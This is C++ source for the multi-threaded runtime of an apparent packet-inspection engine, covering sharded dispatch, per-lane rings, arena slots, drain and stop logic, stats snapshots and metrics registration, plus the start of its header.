  if (pkt.frame.size() > arena.slab_bytes()) {
    // Jumbo frame: counted heap fallback (the zero-alloc claim is audited
    // by this counter staying zero, not assumed). Borrowed frames must be
    // copied — the caller keeps the original.
    arena.count_heap_fallback();
    pp = owner != nullptr
             ? ParsedPacket(std::move(*owner), d.idx)
             : ParsedPacket(net::Packet(pkt.ts_usec, Bytes(pkt.frame)), d.idx);
    pp.ticket = pkt.ticket;
  } else {
    const std::uint32_t slot = borrow(ls);
    if (slot == PacketArena::kNoSlot) {
      // Drop policy with the whole pool in flight: account the shed packet
      // against its lane — fed then dropped, same ledger as a ring-full
      // shed — and move on.
      LaneCounters& c = ls.lane->counters();
      c.fed.fetch_add(1, std::memory_order_relaxed);
      if (d.non_ip) c.non_ip.fetch_add(1, std::memory_order_relaxed);
      c.dropped.fetch_add(1, std::memory_order_release);
      if (feedback_ != nullptr && pkt.ticket != net::Packet::kNoTicket) {
        feedback_->on_shed(pkt.ticket);
      }
      counters_.consumed.fetch_add(1, std::memory_order_release);
      return;
    }
    MutableByteView sl = arena.slab(slot);
    std::memcpy(sl.data(), pkt.frame.data(), pkt.frame.size());
    pp = ParsedPacket(ByteView(sl.data(), pkt.frame.size()), d.idx,
                      pkt.ts_usec, slot);
    pp.ticket = pkt.ticket;
  }
  if (d.non_ip) ++ls.pending_non_ip;
  ls.pending.push_back(std::move(pp));
  if (ls.pending.size() >= batch_) flush(ls);
}

void DispatchCore::flush(LaneSlot& ls) {
  const std::size_t n = ls.pending.size();
  if (n == 0) return;
  LaneCounters& c = ls.lane->counters();
  // fed advances BEFORE the ring push so the mid-flight invariant
  // processed + dropped <= fed holds at every instant a poller can observe.
  c.fed.fetch_add(n, std::memory_order_relaxed);
  if (ls.pending_non_ip != 0) {
    c.non_ip.fetch_add(ls.pending_non_ip, std::memory_order_relaxed);
    ls.pending_non_ip = 0;
  }
  SpscRing<ParsedPacket>& ring = ls.lane->ring();
  if (overload_ == OverloadPolicy::block) {
    std::size_t pushed = 0;
    while (pushed < n) {
      const std::size_t k =
          ring.try_push_batch(ls.pending.data() + pushed, n - pushed);
      pushed += k;
      if (k == 0) std::this_thread::yield();
    }
  } else {
    const std::size_t pushed = ring.try_push_batch(ls.pending.data(), n);
    if (pushed < n) {
      // Shed the overflow. Arena slots come back to the spare stack (the
      // borrower cannot push the free list — it is its consumer); heap
      // fallbacks just release their storage.
      for (std::size_t i = pushed; i < n; ++i) {
        if (ls.pending[i].in_arena()) ls.spare.push_back(ls.pending[i].slot);
        if (feedback_ != nullptr &&
            ls.pending[i].ticket != net::Packet::kNoTicket) {
          feedback_->on_shed(ls.pending[i].ticket);
        }
        ls.pending[i] = ParsedPacket();
      }
      c.dropped.fetch_add(n - pushed, std::memory_order_release);
    }
  }
  ls.pending.clear();
  counters_.flushes.fetch_add(1, std::memory_order_relaxed);
  // Release: a drain() that sees consumed == ingested also sees every fed/
  // dropped increment above.
  counters_.consumed.fetch_add(n, std::memory_order_release);
}

void DispatchCore::flush_all() {
  for (LaneSlot& ls : owned_) flush(ls);
}

bool DispatchCore::has_pending() const {
  for (const LaneSlot& ls : owned_) {
    if (!ls.pending.empty()) return true;
  }
  return false;
}

DispatcherShard::DispatcherShard(const FlowDispatcher& disp,
                                 OverloadPolicy overload, std::size_t batch,
                                 std::vector<OwnedLane> owned,
                                 std::size_t ingest_capacity,
                                 std::uint64_t flush_timeout_us)
    : core_(disp, overload, batch, std::move(owned)),
      ring_(ingest_capacity),
      flush_timeout_us_(flush_timeout_us) {}

DispatcherShard::~DispatcherShard() {
  request_stop();
  join();
}

void DispatcherShard::start() {
  if (thread_.joinable()) return;
  stop_.store(false, std::memory_order_release);
  thread_ = std::thread([this] { run(); });
}

void DispatcherShard::request_stop() {
  stop_.store(true, std::memory_order_release);
}

void DispatcherShard::join() {
  if (thread_.joinable()) thread_.join();
}

void DispatcherShard::run() {
  // Wall clock for the flush timeout (it bounds packet AGE, a wall-time
  // promise) but thread CPU clock for busy_ns (it accounts WORK; wall time
  // would charge preemption to the shard on oversubscribed hosts).
  using clock = std::chrono::steady_clock;
  const auto timeout = std::chrono::microseconds(flush_timeout_us_);
  // Pop raw frames in batches too: the ingest ring's handoff cost is
  // amortized just like the lane rings'.
  constexpr std::size_t kIngestBatch = 32;
  std::vector<net::Packet> buf(kIngestBatch);
  auto pending_since = clock::now();
  bool have_pending = false;
  for (;;) {
    const std::size_t n = ring_.try_pop_batch(buf.data(), kIngestBatch);
    if (n != 0) {
      const std::uint64_t c0 = thread_cpu_now_ns();
      const auto t0 = clock::now();
      for (std::size_t i = 0; i < n; ++i) core_.ingest(std::move(buf[i]));
      if (core_.has_pending()) {
        if (!have_pending) {
          have_pending = true;
          pending_since = t0;
        } else if (t0 - pending_since >= timeout) {
          // Low-load latency guard: a trickle that keeps the ingest ring
          // non-empty but never fills a batch still flushes on age.
          core_.flush_all();
          core_.counters().flush_timeouts.fetch_add(
              1, std::memory_order_relaxed);
          have_pending = false;
        }
      } else {
        have_pending = false;
      }
      core_.counters().busy_ns.fetch_add(thread_cpu_now_ns() - c0,
                                         std::memory_order_relaxed);
      continue;
    }
    // Ingest ring empty: nothing to amortize against, so flush immediately
    // rather than holding packets hostage to a batch that may never fill.
    if (have_pending || core_.has_pending()) {
      core_.flush_all();
      have_pending = false;
    }
    if (stop_.load(std::memory_order_acquire)) {
      // The feeder stops pushing before raising the flag; one more empty
      // check after the acquire is enough to see any frame that raced it.
      if (ring_.empty()) break;
      continue;
    }
    std::this_thread::yield();
  }
}

}  // namespace sdt::runtime
