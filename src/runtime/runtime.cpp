#include "runtime/runtime.hpp"

#include <algorithm>
#include <set>
#include <thread>

#include "util/error.hpp"

namespace sdt::runtime {

namespace {

/// A lane's share of a deployment-wide flow budget: total/lanes, floored,
/// but never more than the total itself.
std::size_t lane_flow_share(std::size_t total, std::size_t lanes,
                            std::size_t floor) {
  const std::size_t share = std::max<std::size_t>(total / lanes, 1);
  return std::min(total, std::max(share, floor));
}

core::SplitDetectConfig make_lane_config(const RuntimeConfig& cfg) {
  core::SplitDetectConfig e = cfg.engine;
  if (cfg.split_flow_budget && cfg.lanes > 0) {
    e.fast.max_flows =
        lane_flow_share(e.fast.max_flows, cfg.lanes, cfg.lane_flow_floor);
    e.slow_max_flows =
        lane_flow_share(e.slow_max_flows, cfg.lanes, cfg.lane_flow_floor);
  }
  return e;
}

}  // namespace

namespace {

core::CompileOptions lane_compile_options(const core::SplitDetectConfig& e) {
  core::CompileOptions opts;
  opts.piece_len = e.fast.piece_len;
  opts.layout = e.fast.layout;
  opts.piece_phase_sample = e.fast.piece_phase_sample;
  return opts;
}

}  // namespace

Runtime::Runtime(const core::SignatureSet& sigs, RuntimeConfig cfg)
    : Runtime(core::compile_ruleset(sigs, lane_compile_options(cfg.engine)),
              cfg) {}

Runtime::Runtime(core::RuleSetHandle rules, RuntimeConfig cfg)
    : cfg_(cfg), lane_cfg_(make_lane_config(cfg)),
      dispatcher_(cfg.lanes, cfg.link) {
  if (cfg_.ring_capacity == 0) {
    throw InvalidArgument("Runtime: ring_capacity == 0");
  }
  // One thread per lane: a lane count beyond any plausible core count is a
  // caller bug (e.g. a negative value pushed through a size_t), not a
  // deployment — fail loudly instead of exhausting the machine.
  if (cfg_.lanes > 4096) {
    throw InvalidArgument("Runtime: lanes > 4096 (misconfigured?)");
  }
  if (cfg_.ingest_capacity == 0) {
    throw InvalidArgument("Runtime: ingest_capacity == 0");
  }
  if (cfg_.arena_slab_bytes == 0) {
    throw InvalidArgument("Runtime: arena_slab_bytes == 0");
  }
  if (cfg_.external_slowpath) {
    slowpath::SlowPathConfig sp = cfg_.slowpath;
    // The service's IPS must be verdict-identical to the engine's internal
    // slow path (same takeover slack, normalizer policy, checksums) — the
    // fuzz crosscheck depends on it. Flow budget: the deployment-wide
    // slow-path total split across the service's workers (worker shards
    // own disjoint flow sets, exactly like lanes).
    sp.ips = core::derive_slow_config(cfg_.engine);
    sp.ips.max_flows = lane_flow_share(
        cfg_.engine.slow_max_flows, std::max<std::size_t>(sp.workers, 1),
        cfg_.lane_flow_floor);
    slowpath_ = std::make_unique<slowpath::SlowPathService>(rules, sp);
  }
  build_lanes(rules);
  if (slowpath_) {
    for (auto& l : lanes_) l->set_divert_sink(slowpath_.get());
  }
  build_dispatch();
}

void Runtime::build_lanes(const core::RuleSetHandle& rules) {
  PacketArena::Config ac;
  ac.slab_bytes = cfg_.arena_slab_bytes;
  // Auto-size: a completely full lane ring plus a staged batch on the
  // dispatcher side plus a popped batch on the lane side, with slack, can
  // all hold slots at once without exhausting the pool — so the blocking
  // fast path never waits on the arena, only on the ring.
  ac.slots = cfg_.arena_slots != 0
                 ? cfg_.arena_slots
                 : cfg_.ring_capacity + 2 * cfg_.dispatch_batch + 16;
  ac.poison_on_recycle = cfg_.arena_poison;
  lanes_.reserve(cfg_.lanes);
  for (std::size_t i = 0; i < cfg_.lanes; ++i) {
    lanes_.push_back(std::make_unique<LaneWorker>(
        rules, lane_cfg_, cfg_.ring_capacity, cfg_.expire_every, ac));
  }
}

void Runtime::build_dispatch() {
  const std::size_t n = std::min(cfg_.dispatchers, cfg_.lanes);
  if (n == 0) {
    std::vector<OwnedLane> all;
    all.reserve(lanes_.size());
    for (std::size_t i = 0; i < lanes_.size(); ++i) {
      all.push_back(OwnedLane{i, lanes_[i].get()});
    }
    inline_core_ = std::make_unique<DispatchCore>(
        dispatcher_, cfg_.overload, cfg_.dispatch_batch, std::move(all));
    return;
  }
  shards_.reserve(n);
  ingest_stage_.resize(n);
  for (std::size_t d = 0; d < n; ++d) {
    std::vector<OwnedLane> owned;
    for (std::size_t l = d; l < lanes_.size(); l += n) {
      owned.push_back(OwnedLane{l, lanes_[l].get()});
    }
    shards_.push_back(std::make_unique<DispatcherShard>(
        dispatcher_, cfg_.overload, cfg_.dispatch_batch, std::move(owned),
        cfg_.ingest_capacity, cfg_.flush_timeout_us));
    ingest_stage_[d].reserve(cfg_.dispatch_batch);
  }
}

void Runtime::attach_registry(control::RuleSetRegistry& registry) {
  if (running_) {
    throw Error("Runtime::attach_registry: attach before start()");
  }
  for (auto& l : lanes_) {
    const std::uint64_t initial =
        l->counters().adopted_version.load(std::memory_order_relaxed);
    l->attach_registry(&registry, registry.subscribe(initial));
  }
  // The external slow path adopts reloads too (its own grace slots), so a
  // version is only "all adopted" once the reassembly side also moved.
  if (slowpath_) slowpath_->attach_registry(registry);
}

void Runtime::set_verdict_feedback(VerdictFeedback* fb) {
  if (running_) {
    throw Error("Runtime::set_verdict_feedback: install before start()");
  }
  if (inline_core_) inline_core_->set_verdict_feedback(fb);
  for (auto& sh : shards_) sh->core().set_verdict_feedback(fb);
  for (std::size_t i = 0; i < lanes_.size(); ++i) {
    lanes_[i]->set_verdict_feedback(fb, i);
  }
}

Runtime::~Runtime() { stop(); }

void Runtime::start() {
  if (running_) return;
  // Slow path first: a lane must never divert into a service with no
  // consumers (admitted packets would sit queued until stop()).
  if (slowpath_) slowpath_->start();
  for (auto& l : lanes_) l->start();
  for (auto& sh : shards_) sh->start();
  running_ = true;
}

void Runtime::push_to_shard(std::size_t s, net::Packet&& pkt) {
  DispatcherShard& sh = *shards_[s];
  // ingested is bumped before the push: a shard that sees the frame also
  // sees itself behind on `consumed`, so drain()'s ingested == consumed
  // wait can never pass while this frame is unaccounted.
  sh.core().counters().ingested.fetch_add(1, std::memory_order_relaxed);
  while (!sh.ingest_ring().try_push(std::move(pkt))) {
    std::this_thread::yield();
  }
}

void Runtime::stage_to_shard(std::size_t s, net::Packet&& pkt) {
  std::vector<net::Packet>& stage = ingest_stage_[s];
  stage.push_back(std::move(pkt));
  if (stage.size() < cfg_.dispatch_batch) return;
  DispatcherShard& sh = *shards_[s];
  sh.core().counters().ingested.fetch_add(stage.size(),
                                          std::memory_order_relaxed);
  std::size_t pushed = 0;
  while (pushed < stage.size()) {
    pushed += sh.ingest_ring().try_push_batch(stage.data() + pushed,
                                              stage.size() - pushed);
    if (pushed < stage.size()) std::this_thread::yield();
  }
  stage.clear();
}

void Runtime::flush_ingest_stages() {
  for (std::size_t s = 0; s < ingest_stage_.size(); ++s) {
    std::vector<net::Packet>& stage = ingest_stage_[s];
    if (stage.empty()) continue;
    DispatcherShard& sh = *shards_[s];
    sh.core().counters().ingested.fetch_add(stage.size(),
                                            std::memory_order_relaxed);
    std::size_t pushed = 0;
    while (pushed < stage.size()) {
      pushed += sh.ingest_ring().try_push_batch(stage.data() + pushed,
                                                stage.size() - pushed);
      if (pushed < stage.size()) std::this_thread::yield();
    }
    stage.clear();
  }
}

void Runtime::feed(net::Packet pkt) {
  if (!running_) throw Error("Runtime::feed: not started");
  if (!shards_.empty()) {
    // Sharded mode: the feeder only peeks the header hash — parse, arena
    // copy, and lane handoff happen on the owning shard's thread.
    const std::size_t lane = peek_lane(pkt.frame, cfg_.link, cfg_.lanes);
    push_to_shard(lane % shards_.size(), std::move(pkt));
    return;
  }
  // Inline mode: this thread is the dispatcher. ingest() parses (the
  // pipeline's only parse), copies into the lane's arena, and stages;
  // flush_all() here keeps the single-packet contract — when feed()
  // returns, the packet is in its lane's ring (or rejected/dropped).
  inline_core_->ingest(std::move(pkt));
  inline_core_->flush_all();
}

void Runtime::feed_borrowed(const net::Packet& pkt) {
  if (!running_) throw Error("Runtime::feed_borrowed: not started");
  if (!shards_.empty()) {
    // The frame must outlive the ingest-ring transit, so a borrowed feed
    // degrades to a deep copy in sharded mode (tickets travel with it).
    net::Packet copy(pkt.ts_usec, pkt.frame);
    copy.ticket = pkt.ticket;
    push_to_shard(
        peek_lane(copy.frame, cfg_.link, cfg_.lanes) % shards_.size(),
        std::move(copy));
    return;
  }
  // Inline dispatch: ingest_borrowed copies the bytes into the lane arena
  // synchronously — when this returns, the caller's buffer is unreferenced.
  inline_core_->ingest_borrowed(pkt);
  inline_core_->flush_all();
}

void Runtime::feed(std::span<const net::Packet> pkts) {
  if (!running_) throw Error("Runtime::feed: not started");
  if (!shards_.empty()) {
    for (const net::Packet& p : pkts) {
      net::Packet copy(p.ts_usec, p.frame);
      copy.ticket = p.ticket;
      stage_to_shard(peek_lane(copy.frame, cfg_.link, cfg_.lanes) %
                         shards_.size(),
                     std::move(copy));
    }
    flush_ingest_stages();
    return;
  }
  for (const net::Packet& p : pkts) {
    inline_core_->ingest_borrowed(p);
  }
  inline_core_->flush_all();
}

void Runtime::feed(const std::vector<net::Packet>& pkts) {
  feed(std::span<const net::Packet>(pkts));
}

void Runtime::feed(std::vector<net::Packet>&& pkts) {
  if (!running_) throw Error("Runtime::feed: not started");
  if (!shards_.empty()) {
    for (net::Packet& p : pkts) {
      stage_to_shard(
          peek_lane(p.frame, cfg_.link, cfg_.lanes) % shards_.size(),
          std::move(p));
    }
    flush_ingest_stages();
  } else {
    for (net::Packet& p : pkts) inline_core_->ingest(std::move(p));
    inline_core_->flush_all();
  }
  pkts.clear();
}

void Runtime::drain() {
  if (!running_) return;
  // Sharded mode first waits for every shard to chew through its ingest
  // backlog: `ingested` is ours (the feeder thread), so it is final; the
  // acquire on `consumed` pairs with the shard's release, making the fed/
  // dropped/rejected increments behind it visible to the lane waits below.
  for (auto& sh : shards_) {
    const DispatchCounters& c = sh->core().counters();
    while (c.consumed.load(std::memory_order_acquire) <
           c.ingested.load(std::memory_order_relaxed)) {
      std::this_thread::yield();
    }
  }
  for (auto& l : lanes_) {
    const LaneCounters& c = l->counters();
    // fed is final here (inline: ours; sharded: the consumed == ingested
    // wait above saw it); wait for the lane to account for every routed
    // packet. The acquire on `processed` pairs with the worker's release,
    // making the processing work itself visible too.
    while (c.processed.load(std::memory_order_acquire) +
               c.dropped.load(std::memory_order_relaxed) <
           c.fed.load(std::memory_order_relaxed)) {
      std::this_thread::yield();
    }
  }
  // Lanes are drained, so the slow path's `fed` is final too; wait until
  // its workers account for every admitted unit (processed or shed —
  // `dropped` only ever moves at stop()).
  if (slowpath_) {
    for (;;) {
      const slowpath::SlowPathStats s = slowpath_->stats_snapshot();
      if (s.conserved() && s.queue_depth == 0) break;
      std::this_thread::yield();
    }
  }
}

void Runtime::stop() {
  if (!running_) return;
  // Producers die upstream-first. Shards drain their ingest rings and
  // flush every staged packet before exiting, so no lane ring gains a
  // producer after its worker is told to stop.
  for (auto& sh : shards_) sh->request_stop();
  for (auto& sh : shards_) sh->join();
  for (auto& l : lanes_) l->request_stop();
  for (auto& l : lanes_) l->join();
  // Lanes are gone (no more producers): close the slow path and let its
  // workers drain what was admitted before joining them.
  if (slowpath_) slowpath_->stop();
  running_ = false;
}

namespace {

RejectBreakdown read_reject_breakdown(const DispatchCounters& c) {
  const auto at = [&c](net::ParseStatus st) {
    return c.rejected_by[static_cast<std::size_t>(st)].load(
        std::memory_order_relaxed);
  };
  RejectBreakdown b;
  b.truncated_l2 = at(net::ParseStatus::truncated_l2);
  b.truncated_l3 = at(net::ParseStatus::truncated_l3);
  b.bad_ip_header = at(net::ParseStatus::bad_ip_header);
  b.bad_ext_header = at(net::ParseStatus::bad_ext_header);
  b.bad_decap = at(net::ParseStatus::bad_decap);
  b.truncated_l4 = at(net::ParseStatus::truncated_l4);
  return b;
}

EncapBreakdown read_encap_breakdown(const DispatchCounters& c) {
  EncapBreakdown e;
  e.ipv6 = c.delivered_ipv6.load(std::memory_order_relaxed);
  e.vlan = c.delivered_vlan.load(std::memory_order_relaxed);
  e.tunneled = c.delivered_tunneled.load(std::memory_order_relaxed);
  return e;
}

}  // namespace

StatsSnapshot Runtime::stats() const {
  StatsSnapshot s;
  if (inline_core_) {
    s.rejected = inline_core_->counters().rejected.load(
        std::memory_order_relaxed);
    s.rejected_by += read_reject_breakdown(inline_core_->counters());
    s.delivered += read_encap_breakdown(inline_core_->counters());
  }
  s.dispatchers.reserve(shards_.size());
  for (const auto& sh : shards_) {
    const DispatchCounters& c = sh->core().counters();
    DispatcherSnapshot ds;
    // consumed before ingested: same oldest-truth-first discipline as the
    // lane counters, so consumed <= ingested in every mid-flight poll.
    ds.consumed = c.consumed.load(std::memory_order_acquire);
    ds.rejected = c.rejected.load(std::memory_order_relaxed);
    ds.flushes = c.flushes.load(std::memory_order_relaxed);
    ds.flush_timeouts = c.flush_timeouts.load(std::memory_order_relaxed);
    ds.busy_ns = c.busy_ns.load(std::memory_order_relaxed);
    ds.ingested = c.ingested.load(std::memory_order_relaxed);
    ds.ring_size = sh->ingest_ring().size();
    ds.ring_high_water = sh->ingest_ring().high_water();
    ds.ring_capacity = sh->ingest_ring().capacity();
    ds.rejected_by = read_reject_breakdown(c);
    ds.delivered = read_encap_breakdown(c);
    s.dispatchers.push_back(ds);
    s.rejected += ds.rejected;
    s.rejected_by += ds.rejected_by;
    s.delivered += ds.delivered;
  }
  s.lanes.reserve(lanes_.size());
  for (const auto& l : lanes_) {
    const LaneCounters& c = l->counters();
    LaneSnapshot ls;
    // Counters are read oldest-truth-first: `processed` and `dropped` are
    // acquire-loaded before `fed`, so neither can be reordered after it.
    // A packet is always fed before it is processed or dropped, hence a
    // snapshot taken mid-flight can never show more packets accounted for
    // than routed: processed + dropped <= fed holds in every poll, and
    // becomes an equality at quiescence.
    ls.processed = c.processed.load(std::memory_order_acquire);
    ls.dropped = c.dropped.load(std::memory_order_acquire);
    ls.non_ip = c.non_ip.load(std::memory_order_relaxed);
    ls.bytes = c.bytes.load(std::memory_order_relaxed);
    ls.alerts = c.alerts.load(std::memory_order_relaxed);
    ls.diverted = c.diverted.load(std::memory_order_relaxed);
    ls.busy_ns = c.busy_ns.load(std::memory_order_relaxed);
    ls.adoptions = c.adoptions.load(std::memory_order_relaxed);
    ls.adopted_version = c.adopted_version.load(std::memory_order_relaxed);
    ls.fed = c.fed.load(std::memory_order_relaxed);
    ls.ring_size = l->ring().size();
    ls.ring_high_water = l->ring().high_water();
    ls.ring_capacity = l->ring().capacity();
    ls.fast_max_flows = lane_cfg_.fast.max_flows;
    ls.arena = l->arena().stats();
    ls.latency_ns = l->latency_ns().snapshot();
    ls.frame_bytes = l->frame_bytes().snapshot();
    s.lanes.push_back(ls);
    s.fed += ls.fed;
    s.processed += ls.processed;
    s.dropped += ls.dropped;
    s.non_ip += ls.non_ip;
    s.bytes += ls.bytes;
    s.alerts += ls.alerts;
    s.diverted += ls.diverted;
    s.adoptions += ls.adoptions;
  }
  if (slowpath_) {
    s.has_external_slowpath = true;
    s.slowpath = slowpath_->stats_snapshot();
  }
  if (wire_stats_ != nullptr) {
    s.has_wire = true;
    s.wire = wire_stats_->wire_drops();
  }
  return s;
}

void Runtime::register_metrics(telemetry::MetricsRegistry& reg,
                               const std::string& prefix) const {
  using telemetry::MetricDesc;
  // Rejects may accrue on the inline core or on any shard — expose the sum
  // as a gauge over the live counters (each is single-writer).
  reg.add_gauge(MetricDesc{prefix + ".rejected", "packets", "dispatcher"},
                [this] {
                  std::uint64_t n = 0;
                  if (inline_core_) {
                    n += inline_core_->counters().rejected.load(
                        std::memory_order_relaxed);
                  }
                  for (const auto& sh : shards_) {
                    n += sh->core().counters().rejected.load(
                        std::memory_order_relaxed);
                  }
                  return n;
                });
  // Per-reason reject counters and per-encap delivered counters, summed
  // over the inline core and every shard (same single-writer live reads).
  const auto sum_cores =
      [this](auto pick) -> std::uint64_t {
    std::uint64_t n = 0;
    if (inline_core_) n += pick(inline_core_->counters());
    for (const auto& sh : shards_) n += pick(sh->core().counters());
    return n;
  };
  struct ReasonGauge {
    const char* name;
    net::ParseStatus status;
  };
  static constexpr ReasonGauge kReasons[] = {
      {".rejected_truncated_l2", net::ParseStatus::truncated_l2},
      {".rejected_truncated_l3", net::ParseStatus::truncated_l3},
      {".rejected_bad_ip_header", net::ParseStatus::bad_ip_header},
      {".rejected_bad_ext_header", net::ParseStatus::bad_ext_header},
      {".rejected_bad_decap", net::ParseStatus::bad_decap},
      {".rejected_truncated_l4", net::ParseStatus::truncated_l4},
  };
  for (const ReasonGauge& r : kReasons) {
    reg.add_gauge(MetricDesc{prefix + r.name, "packets", "dispatcher"},
                  [sum_cores, st = r.status] {
                    return sum_cores([st](const DispatchCounters& c) {
                      return c.rejected_by[static_cast<std::size_t>(st)].load(
                          std::memory_order_relaxed);
                    });
                  });
  }
  reg.add_gauge(MetricDesc{prefix + ".delivered_ipv6", "packets", "dispatcher"},
                [sum_cores] {
                  return sum_cores([](const DispatchCounters& c) {
                    return c.delivered_ipv6.load(std::memory_order_relaxed);
                  });
                });
  reg.add_gauge(MetricDesc{prefix + ".delivered_vlan", "packets", "dispatcher"},
                [sum_cores] {
                  return sum_cores([](const DispatchCounters& c) {
                    return c.delivered_vlan.load(std::memory_order_relaxed);
                  });
                });
  reg.add_gauge(
      MetricDesc{prefix + ".delivered_tunneled", "packets", "dispatcher"},
      [sum_cores] {
        return sum_cores([](const DispatchCounters& c) {
          return c.delivered_tunneled.load(std::memory_order_relaxed);
        });
      });
  reg.add_gauge(MetricDesc{prefix + ".lanes", "", "runtime"},
                [this] { return static_cast<std::uint64_t>(lanes_.size()); });
  reg.add_gauge(MetricDesc{prefix + ".dispatchers", "", "runtime"}, [this] {
    return static_cast<std::uint64_t>(shards_.size());
  });
  if (slowpath_) slowpath_->register_metrics(reg, prefix + ".slowpath");
  for (std::size_t d = 0; d < shards_.size(); ++d) {
    const std::string dp = prefix + ".dispatcher" + std::to_string(d) + ".";
    const DispatchCounters& c = shards_[d]->core().counters();
    const DispatcherShard* sh = shards_[d].get();
    // consumed before ingested — the shard ledger's oldest-truth-first
    // order, mirroring processed/dropped before fed below.
    reg.add_counter(MetricDesc{dp + "consumed", "packets", "dispatcher"},
                    &c.consumed);
    reg.add_counter(MetricDesc{dp + "rejected", "packets", "dispatcher"},
                    &c.rejected);
    reg.add_counter(MetricDesc{dp + "flushes", "batches", "dispatcher"},
                    &c.flushes);
    reg.add_counter(MetricDesc{dp + "flush_timeouts", "batches", "dispatcher"},
                    &c.flush_timeouts);
    reg.add_counter(MetricDesc{dp + "busy_ns", "ns", "dispatcher"},
                    &c.busy_ns);
    reg.add_counter(MetricDesc{dp + "ingested", "packets", "feeder"},
                    &c.ingested);
    reg.add_gauge(MetricDesc{dp + "ring_size", "packets", "ring"}, [sh] {
      return static_cast<std::uint64_t>(sh->ingest_ring().size());
    });
    reg.add_gauge(MetricDesc{dp + "ring_high_water", "packets", "ring"},
                  [sh] {
                    return static_cast<std::uint64_t>(
                        sh->ingest_ring().high_water());
                  });
  }
  for (std::size_t i = 0; i < lanes_.size(); ++i) {
    const std::string lp = prefix + ".lane" + std::to_string(i) + ".";
    const LaneWorker* w = lanes_[i].get();
    const LaneCounters& c = w->counters();
    const auto ctr = [&](const char* name, const char* unit,
                         const char* owner,
                         const std::atomic<std::uint64_t>* src) {
      reg.add_counter(MetricDesc{lp + name, unit, owner}, src);
    };
    // Registration order is sampling order (see MetricsRegistry): the
    // accounted-for counters (processed, dropped) go in before `fed`, so a
    // live snapshot can never show more packets accounted for than routed
    // — the same oldest-truth-first discipline as Runtime::stats().
    ctr("processed", "packets", "lane", &c.processed);
    ctr("bytes", "bytes", "lane", &c.bytes);
    ctr("alerts", "alerts", "lane", &c.alerts);
    ctr("diverted", "packets", "lane", &c.diverted);
    ctr("busy_ns", "ns", "lane", &c.busy_ns);
    ctr("adoptions", "events", "lane", &c.adoptions);
    reg.add_gauge(MetricDesc{lp + "adopted_version", "version", "lane"}, [w] {
      return w->counters().adopted_version.load(std::memory_order_relaxed);
    });
    ctr("dropped", "packets", "dispatcher", &c.dropped);
    ctr("non_ip", "packets", "dispatcher", &c.non_ip);
    ctr("fed", "packets", "dispatcher", &c.fed);
    reg.add_histogram(MetricDesc{lp + "latency_ns", "ns", "lane"},
                      &w->latency_ns());
    reg.add_histogram(MetricDesc{lp + "frame_bytes", "bytes", "lane"},
                      &w->frame_bytes());
    reg.add_gauge(MetricDesc{lp + "ring_size", "packets", "ring"},
                  [w] { return static_cast<std::uint64_t>(w->ring().size()); });
    reg.add_gauge(MetricDesc{lp + "ring_high_water", "packets", "ring"}, [w] {
      return static_cast<std::uint64_t>(w->ring().high_water());
    });
    reg.add_gauge(MetricDesc{lp + "ring_capacity", "packets", "ring"}, [w] {
      return static_cast<std::uint64_t>(w->ring().capacity());
    });
    // Arena gauges: single-writer counters behind stats(), live-safe. A
    // dashboard asserting the zero-allocation claim watches heap_fallbacks
    // (must stay 0) and outstanding (must return to 0 at quiescence).
    reg.add_gauge(MetricDesc{lp + "arena_outstanding", "slots", "arena"},
                  [w] { return w->arena().stats().outstanding(); });
    reg.add_gauge(MetricDesc{lp + "arena_high_water", "slots", "arena"}, [w] {
      return static_cast<std::uint64_t>(w->arena().stats().high_water);
    });
    reg.add_gauge(MetricDesc{lp + "arena_exhausted", "events", "arena"},
                  [w] { return w->arena().stats().exhausted; });
    reg.add_gauge(MetricDesc{lp + "arena_heap_fallbacks", "packets", "arena"},
                  [w] { return w->arena().stats().heap_fallbacks; });
    reg.add_gauge(MetricDesc{lp + "arena_slots", "slots", "arena"}, [w] {
      return static_cast<std::uint64_t>(w->arena().stats().slots);
    });
    reg.add_gauge(MetricDesc{lp + "fast_max_flows", "flows", "runtime"},
                  [this] {
                    return static_cast<std::uint64_t>(lane_cfg_.fast.max_flows);
                  });
    // Deep engine stats: thread-private plain counters, registered by the
    // engine itself as quiescent-only gauges (skipped by live polls).
    w->engine().register_metrics(reg, lp + "engine");
  }
}

void Runtime::require_stopped(const char* what) const {
  if (running_) {
    throw Error(std::string("Runtime::") + what +
                ": workers still running; stop() first");
  }
}

std::vector<core::Alert> Runtime::alerts() const {
  require_stopped("alerts");
  std::vector<core::Alert> out;
  for (const auto& l : lanes_) {
    out.insert(out.end(), l->alerts().begin(), l->alerts().end());
  }
  if (slowpath_) {
    // Detection alerts raised on the service's workers (lane-side alerts —
    // including shed notifications — are already in the lane logs above).
    const std::vector<core::Alert> sp = slowpath_->alerts_snapshot();
    out.insert(out.end(), sp.begin(), sp.end());
  }
  return out;
}

std::vector<std::uint32_t> Runtime::alerted_signatures() const {
  require_stopped("alerted_signatures");
  std::set<std::uint32_t> ids;
  for (const core::Alert& a : alerts()) ids.insert(a.signature_id);
  return std::vector<std::uint32_t>(ids.begin(), ids.end());
}

const core::SplitDetectEngine& Runtime::lane_engine(std::size_t lane) const {
  require_stopped("lane_engine");
  return lanes_.at(lane)->engine();
}

}  // namespace sdt::runtime
