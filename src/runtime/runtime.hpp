// sdt::runtime::Runtime — the concurrent deployment shape behind the
// paper's 20 Gbps claim, as a real multi-threaded system instead of the
// sequential simulation in sim/sharding.
//
//                       ┌─ SPSC ring ─► LaneWorker 0 (own engine, own alerts)
//   feed() ─ dispatcher ┼─ SPSC ring ─► LaneWorker 1
//   (address-pair hash) └─ SPSC ring ─► LaneWorker N-1
//
// Invariants:
//   * affinity — every packet of a flow (both directions, fragments
//     included) reaches one lane, so lane engines never share flow state
//     and multi-lane verdicts equal single-engine verdicts;
//   * conservation — no packet is silently lost: fed == processed + dropped
//     at quiescence, and dropped > 0 only under OverloadPolicy::drop (the
//     blocking policy is lossless backpressure);
//   * observability — StatsSnapshot can be polled from any thread while
//     workers run; it reads only single-writer atomics, never locks the
//     packet path.
//
// Lifecycle: construct → start() → feed()… → drain()/stats()… → stop() →
// alerts()/lane_engine(). feed() must be called from one thread at a time
// (the dispatcher is the single producer of every ring).
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "core/engine.hpp"
#include "runtime/dispatcher.hpp"
#include "runtime/lane_worker.hpp"

namespace sdt::runtime {

/// What feed() does when a lane's ring is full.
enum class OverloadPolicy : std::uint8_t {
  /// Wait for the lane to catch up — lossless backpressure (default).
  block,
  /// Shed the packet and count it against the lane — graceful degradation,
  /// never silent: every drop is visible in the stats.
  drop,
};
